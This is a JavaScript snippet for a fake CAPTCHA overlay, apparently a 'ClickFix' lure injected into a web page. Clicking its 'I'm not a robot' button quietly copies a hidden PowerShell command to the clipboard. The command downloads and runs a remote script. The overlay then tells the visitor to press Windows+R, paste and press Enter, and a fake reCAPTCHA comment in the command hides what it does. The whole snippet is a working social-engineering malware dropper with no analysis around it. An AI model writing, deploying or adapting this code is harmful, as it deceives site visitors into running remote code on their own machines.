(function () {
  var cmd = 'powershell -w hidden -c "iwr https://verify-captcha-cdn.invalid/v.ps1 | iex" # I am not a robot - reCAPTCHA ID 4021';
  var box = document.createElement("div");
  box.style.cssText = "position:fixed;top:0;left:0;right:0;bottom:0;background:rgba(0,0,0,.6);z-index:99999";
  box.innerHTML = '<div style="background:#fff;width:320px;margin:15% auto;padding:20px">' +
    '<p>Verify you are human</p><button id="cf-verify">I\'m not a robot</button>' +
    '<ol id="cf-steps" style="display:none"><li>Press Windows + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol></div>';
  document.body.appendChild(box);
  document.getElementById("cf-verify").onclick = function () {
    navigator.clipboard.writeText(cmd);
    document.getElementById("cf-steps").style.display = "block";
  };
})();
